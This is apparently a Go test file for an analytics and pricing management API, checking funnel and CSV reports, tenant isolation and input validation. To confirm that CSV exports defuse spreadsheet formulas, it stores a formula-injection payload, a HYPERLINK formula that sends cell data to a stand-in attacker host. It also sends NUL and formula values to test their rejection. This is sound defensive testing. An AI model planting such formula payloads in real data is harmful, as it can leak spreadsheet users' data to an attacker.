package managementapi_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/uplift-dev/uplift/internal/apitest"
	"github.com/uplift-dev/uplift/internal/model"
)

func TestAnalyticsReports(t *testing.T) {
	e := apitest.New(t)
	tn, key := e.Tenant("Shop")
	_, otherKey := e.Tenant("Other")
	e.Do(key, "POST", "/v1/users/u1/actions/signIn", map[string]any{}).MustOK(t)
	now := e.Clock.Now()
	today := now.UTC().Format(time.DateOnly)
	n := 0
	event := func(kind model.UpliftEventKind, reason, platform, action string) {
		n++
		if err := e.Store.RecordUpliftEvent(t.Context(), model.UpliftEvent{ID: fmt.Sprint("e", n), TenantID: tn.ID, UserID: "u1",
			DeviceID: "d1", ActionCode: action, Kind: kind, Reason: reason, Platform: platform, At: now.Add(time.Duration(n) * time.Second)}); err != nil {
			t.Fatal(err)
		}
	}
	// A platform that a spreadsheet would run as a formula.
	const formula = `=HYPERLINK("https://evil.example/?"&A1,"Click")`
	event(model.UpliftEvaluated, "eligible", formula, "-signIn")
	event(model.UpliftShown, "", formula, "-signIn")
	event(model.UpliftShown, "", formula, "-signIn")
	event(model.UpliftAccepted, "", formula, "-signIn")

	funnel := e.Do(key, "GET", base+"/analytics/funnel", nil).MustOK(t)
	if f, _ := funnel.JSON["funnel"].(map[string]any); f["evaluated"] != float64(1) || f["shown"] != float64(2) || f["accepted"] != float64(1) {
		t.Errorf("funnel = %s", funnel.Body)
	}
	if funnel.Str("to") != today || funnel.Str("report") != "funnel" {
		t.Errorf("funnel's period: %s, want to %s", funnel.Body, today)
	}
	attempts := e.Do(key, "GET", base+"/analytics/attempts?from="+today+"&to="+today, nil).MustOK(t)
	rows, _ := attempts.JSON["rows"].([]any)
	if len(rows) != 4 {
		t.Fatalf("attempts = %s, want 4 rows", attempts.Body)
	}
	if second, _ := rows[1].(map[string]any); second["shown"] != float64(1) || second["accepted"] != float64(1) || second["acceptanceRate"] != float64(1) {
		t.Errorf("second attempt = %v, want shown 1, accepted 1, rate 1", second)
	}
	if fourth, _ := rows[3].(map[string]any); fourth["acceptanceRate"] != nil {
		t.Errorf("fourth attempt's rate = %v, want null (none shown)", fourth["acceptanceRate"])
	}
	if other := e.Do(otherKey, "GET", base+"/analytics/funnel", nil).MustOK(t); !strings.Contains(string(other.Body), `"evaluated":0`) {
		t.Errorf("the other tenant sees %s", other.Body)
	}

	// CSV: quoted by encoding/csv, text cells that start a formula defused.
	res := e.Do(key, "GET", base+"/analytics/breakdowns?format=csv", nil).MustOK(t)
	if ct := res.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type = %q", ct)
	}
	if cd := res.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="uplift-breakdowns-`) {
		t.Errorf("Content-Disposition = %q", cd)
	}
	records, err := csv.NewReader(strings.NewReader(string(res.Body))).ReadAll()
	if err != nil {
		t.Fatalf("CSV: %v\n%s", err, res.Body)
	}
	want := [][]string{
		{"dimension", "value", "evaluated", "eligible", "shown", "accepted", "dismissed", "optedOut", "failed", "passkeysCreated", "passkeySignIns"},
		{"os", "'" + formula, "1", "1", "2", "1", "0", "0", "0", "0", "0"},
		{"browser", "Unknown", "1", "1", "2", "1", "0", "0", "0", "0", "0"},
		{"action", "'-signIn", "1", "1", "2", "1", "0", "0", "0", "0", "0"},
		{"variant", "No experiment", "1", "1", "2", "1", "0", "0", "0", "0", "0"},
		{"surface", "Hosted pages", "1", "1", "2", "1", "0", "0", "0", "0", "0"},
	}
	if diff := cmp.Diff(records, want); diff != "" {
		t.Errorf("breakdowns CSV (-got +want):\n%s", diff)
	}
	for _, report := range []string{"funnel", "attempts", "coverage", "fallbacks", "savings"} {
		res := e.Do(key, "GET", base+"/analytics/"+report+"?format=csv", nil).MustOK(t)
		if _, err := csv.NewReader(strings.NewReader(string(res.Body))).ReadAll(); err != nil || len(res.Body) == 0 {
			t.Errorf("%s CSV: %v\n%s", report, err, res.Body)
		}
	}

	for _, tt := range []struct {
		name, path string
		status     int
		mention    string
	}{
		{"unknown report", "/analytics/users", http.StatusNotFound, ""},
		{"format", "/analytics/funnel?format=xlsx", http.StatusBadRequest, "format"},
		{"from not a date", "/analytics/funnel?from=yesterday", http.StatusBadRequest, "from"},
		{"from with NUL", "/analytics/funnel?from=2026-01-01%00", http.StatusBadRequest, "from"},
		{"to with a formula", "/analytics/funnel?to=%3D1%2B1", http.StatusBadRequest, "to"},
		{"from after to", "/analytics/funnel?from=2026-02-02&to=2026-02-01", http.StatusBadRequest, "from"},
		{"over a year", "/analytics/funnel?from=2020-01-01&to=2026-01-01", http.StatusBadRequest, "period"},
	} {
		res := e.Do(key, "GET", base+tt.path, nil)
		if res.Status != tt.status || !strings.Contains(res.Str("errorDescription"), tt.mention) {
			t.Errorf("%s: status %d %s, want %d naming %q", tt.name, res.Status, res.Body, tt.status, tt.mention)
		}
	}
	if res := e.Do("", "GET", base+"/analytics/funnel", nil); res.Status != http.StatusUnauthorized {
		t.Errorf("without a key: status %d, want 401", res.Status)
	}
}

func TestMessagePrices(t *testing.T) {
	e := apitest.New(t)
	_, key := e.Tenant("Shop")
	path := base + "/message-prices"
	if got := e.Do(key, "GET", path, nil).MustOK(t); got.Str("currency") != "" || got.JSON["textMessagePrice"] != float64(0) {
		t.Errorf("before any: %s", got.Body)
	}
	e.Do(key, "PATCH", path, map[string]any{"currency": "EUR", "textMessagePrice": 7, "emailPrice": 1}).MustOK(t)
	e.Do(key, "PATCH", path, map[string]any{"emailPrice": 2}).MustOK(t)
	got := e.Do(key, "GET", path, nil).MustOK(t)
	if got.Str("currency") != "EUR" || got.JSON["textMessagePrice"] != float64(7) || got.JSON["emailPrice"] != float64(2) {
		t.Errorf("after two PATCHes: %s", got.Body)
	}
	for _, tt := range []struct{ name, body, mention string }{
		{"lower-case currency", `{"currency":"eur"}`, "currency"},
		{"currency with NUL", `{"currency":"E\u0000R"}`, "currency"},
		{"long currency", `{"currency":"EUROS"}`, "currency"},
		{"negative price", `{"textMessagePrice":-1}`, "textMessagePrice"},
		{"fractional price", `{"emailPrice":0.5}`, "emailPrice"},
		{"price as text", `{"emailPrice":"1"}`, "emailPrice"},
		{"huge price", `{"emailPrice":1e30}`, "emailPrice"},
	} {
		res := e.Do(key, "PATCH", path, []byte(tt.body))
		if res.Status != http.StatusBadRequest || !strings.Contains(res.Str("errorDescription"), tt.mention) {
			t.Errorf("%s: status %d %s, want 400 naming %q", tt.name, res.Status, res.Body, tt.mention)
		}
	}
	if got := e.Do(key, "GET", path, nil).MustOK(t); got.JSON["emailPrice"] != float64(2) {
		t.Errorf("refused PATCHes changed the prices: %s", got.Body)
	}
}
